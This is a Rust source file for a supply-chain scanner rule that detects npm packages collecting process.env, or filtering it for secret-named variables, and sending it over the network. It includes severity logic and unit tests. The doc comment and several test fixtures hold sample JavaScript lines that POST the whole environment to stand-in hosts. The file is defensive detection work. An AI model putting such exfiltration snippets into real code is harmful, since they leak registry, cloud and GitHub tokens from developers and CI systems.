//! `code/env-exfiltration`.

use super::{SENDS, chain, finding, locality, per_signal};
use crate::CodeFinding;
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// The whole environment (or every secret-looking variable) is collected in a package that sends data out.
    ///
    /// ## What it detects
    /// `process.env` serialised as a whole (`JSON.stringify(process.env)`; `Object.assign({}, process.env)` or
    /// `{...process.env}` stored in an object next to host or user details; `Object.entries(process.env)` /
    /// `for…in` iteration filtered by secret-looking names such as `/TOKEN|SECRET/`) together
    /// with a network sink; strongest in the same function or file.
    ///
    /// ## Why it matters
    /// CI and developer environments hold registry, cloud and GitHub tokens; the crossenv typosquats (2017) and
    /// many dependency-confusion probes simply POST `process.env`.
    ///
    /// ## Example
    /// `https.request(u).end(JSON.stringify(process.env))`
    ///
    /// ## Known false positives
    /// dotenv-style loaders iterate `process.env` without a network sink (not reported); spawning a child with
    /// `{ env: process.env }` is recognised and skipped; crash reporters that attach the whole environment are
    /// reported, on purpose.
    pub static ENV_EXFILTRATION = { id: "code/env-exfiltration", severity: Severity::Critical };
}

/// One finding per env dump in a package with a network sink.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let mut out = per_signal(p, Kind::EnvDump, |f, s| report(p, f, s));
    out.extend(per_signal(p, Kind::EnvIterate, |f, s| {
        // Iterating the environment is ordinary (prefix filters, dotenv); iterating it with a
        // secret-name filter in the same function is harvesting.
        if !f.has_in(Kind::EnvSecretFilter, s.func) && !f.has_in(Kind::Network, s.func) {
            return None;
        }
        report(p, f, s)
    }));
    out
}

fn report(
    p: &PackageFacts,
    f: &crate::signal::FileFacts,
    s: &crate::signal::Signal,
) -> Option<CodeFinding> {
    {
        let loc = locality(p, f, s, SENDS);
        if loc == Locality::Alone {
            return None;
        }
        let filtered = f.has(Kind::EnvSecretFilter);
        let sev = if loc >= Locality::File {
            Severity::Critical
        } else if super::is_bundle(f) && f.has_any(SENDS) {
            // A bundle's sends belong to other modules of the bundle (prisma serialises
            // `process.env` for its own WebAssembly engine, its HTTP client is elsewhere).
            Severity::Medium
        } else {
            Severity::High
        };
        let msg = format!(
            "environment collected ({}{}) and sent out",
            s.detail,
            if filtered {
                ", filtered for secrets"
            } else {
                ""
            }
        );
        Some(finding(
            &ENV_EXFILTRATION,
            sev,
            f,
            s,
            loc,
            msg,
            chain(p, f, s, &[Kind::Network, Kind::EnvSecretFilter]),
        ))
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};

    #[test]
    fn positive() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "const http = require('http');\nfunction go() {\n  const body = JSON.stringify(process.env);\n  http.request({ host: 'x.example.net', method: 'POST' }).end(body);\n}\ngo();\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/env-exfiltration"),
            vec![("a.js".to_string(), 3)]
        );
    }

    #[test]
    fn negative_spawn_env() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "const https = require('https');\nconst cp = require('child_process');\ncp.spawn('node', ['x'], { env: Object.assign({}, process.env, { A: '1' }), stdio: 'inherit' });\nhttps.get('https://registry.npmjs.org/');\n",
            ),
        ]);
        assert!(hits(&s, "code/env-exfiltration").is_empty());
    }

    #[test]
    fn negative_prefix_filter() {
        // Like vite's loadEnv: iterate env keys for a prefix, no network in the function.
        let s = scan(&[
            ("package.json", PJ),
            (
                "e.js",
                "const https = require('https');\nfunction load(prefix) {\n  const out = {};\n  for (const k of Object.keys(process.env)) if (k.startsWith(prefix)) out[k] = process.env[k];\n  return out;\n}\nhttps.get('https://registry.example.com/');\n",
            ),
        ]);
        assert!(hits(&s, "code/env-exfiltration").is_empty());
    }

    #[test]
    fn positive_env_inside_serialised_object() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "t.js",
                "async function ping(u) {\n  await fetch(u, { method: 'POST', body: JSON.stringify({ v: 1, e: process.env }) });\n}\nping('https://t.example.com');\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/env-exfiltration"),
            vec![("t.js".to_string(), 2)]
        );
    }

    /// prisma's CLI bundle: `process.env` serialised for its WebAssembly engine in one function,
    /// HTTP in another function of the same 10 MB file.
    #[test]
    fn env_serialised_far_from_the_send_in_a_bundle_is_medium() {
        let mut bundle = String::from(
            "const https = require('https');\nfunction getConfig(engine, schema) {\n  const params = JSON.stringify({ schema, env: process.env });\n  return engine.get_config(params);\n}\n",
        );
        while bundle.len() < super::super::BUNDLE_BYTES {
            bundle.push_str("function pad(n) { return String(n).padStart(2, '0'); }\n");
        }
        bundle.push_str("function ping(u) { return https.get(u); }\n");
        let s = scan(&[("package.json", PJ), ("build/index.js", &bundle)]);
        let env: Vec<_> = s
            .findings
            .iter()
            .filter(|f| f.rule == "code/env-exfiltration")
            .map(|f| (f.file.as_str(), f.line, f.severity))
            .collect();
        assert_eq!(
            env,
            vec![("build/index.js", 3, diligence_finding::Severity::Medium)]
        );
    }
}
